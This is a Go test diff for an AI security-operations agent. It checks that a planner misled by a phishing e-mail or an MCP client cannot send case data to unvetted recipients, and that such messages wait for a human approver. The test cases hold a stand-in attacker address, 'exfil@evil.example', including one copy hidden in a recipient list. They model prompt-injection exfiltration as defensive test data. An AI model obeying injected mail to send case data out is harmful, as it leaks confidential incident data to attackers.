@@ -142,18 +142,28 @@ func TestExecutiveImpersonation(t *testing.T) {
 
 // TestRecipientOfCaseData is threats T1 and T2: a planner obeying an e-mail
 // or an MCP client sends case data to an address nobody vetted. A message to
-// the SOC's own channel runs; one to a made-up or an outside recipient waits
-// for a human, and the approver is told who would receive it.
+// the SOC's own channel runs; one to a recipient the planner chose waits for
+// a human, and one outside the organisation says so even when the case names
+// it (the phish's own sender). The approver is told who would receive it.
 func TestRecipientOfCaseData(t *testing.T) {
 	const attacker = "exfil@evil.example"
+	const outside = "is outside the organisation"
 	tests := []struct {
 		name, args, want string
+		outside          bool
 	}{
-		{"soc channel", `{"channel":"soc","message":"case summary"}`, agent.ActionExecuted},
+		{"soc channel", `{"channel":"soc","message":"case summary"}`, agent.ActionExecuted,
+			false},
 		{"made-up address", `{"channel":"email","message":"case summary","to":"drop@x.example"}`,
-			agent.ActionHeld},
+			agent.ActionHeld, true},
 		{"address from the phish", `{"channel":"email","message":"case summary","to":"` +
-			attacker + `"}`, agent.ActionHeld},
+			attacker + `"}`, agent.ActionHeld, true},
+		{"outside address hidden in a list", `{"channel":"email","message":"case summary",` +
+			`"to":"` + attacker + `, it-helpdesk@acme-corp.example"}`, agent.ActionHeld, true},
+		{"the organisation's own group", `{"channel":"chat","message":"case summary",` +
+			`"to":"soc-leads"}`, agent.ActionHeld, false},
+		{"an employee", `{"channel":"email","message":"case summary",` +
+			`"to":"maria.lopez"}`, agent.ActionHeld, false},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
@@ -168,18 +178,24 @@ func TestRecipientOfCaseData(t *testing.T) {
 			rep := e.investigate(t, id)
 
 			if got := statuses(rep)["tell"]; got != tt.want {
-				t.Errorf("notify %s = %s, want %s (actions %+v)", tt.args, got, tt.want,
+				t.Fatalf("notify %s = %s, want %s (actions %+v)", tt.args, got, tt.want,
 					rep.Actions)
 			}
 			if tt.want != agent.ActionHeld {
 				return
 			}
 			v, err := e.app.Engine.Explain(e.ctx, rep.Approvals[0].ID)
-			if err != nil || len(v.BlastRadius) != 1 ||
-				!strings.HasSuffix(v.BlastRadius[0], "receives the message, with whatever "+
-					"case data it holds") {
-				t.Errorf("blast radius = %q, %v; want who receives the message", v.BlastRadius,
-					err)
+			if err != nil {
+				t.Fatal(err)
+			}
+			said := strings.Contains(strings.Join(v.Approval.Reasons, "; "), outside)
+			if said != tt.outside {
+				t.Errorf("reasons %q; want %q said: %v", v.Approval.Reasons, outside,
+					tt.outside)
+			}
+			if len(v.BlastRadius) != 1 || !strings.Contains(v.BlastRadius[0],
+				"receives the message") {
+				t.Errorf("blast radius = %q; want who receives the message", v.BlastRadius)
 			}
 		})
 	}
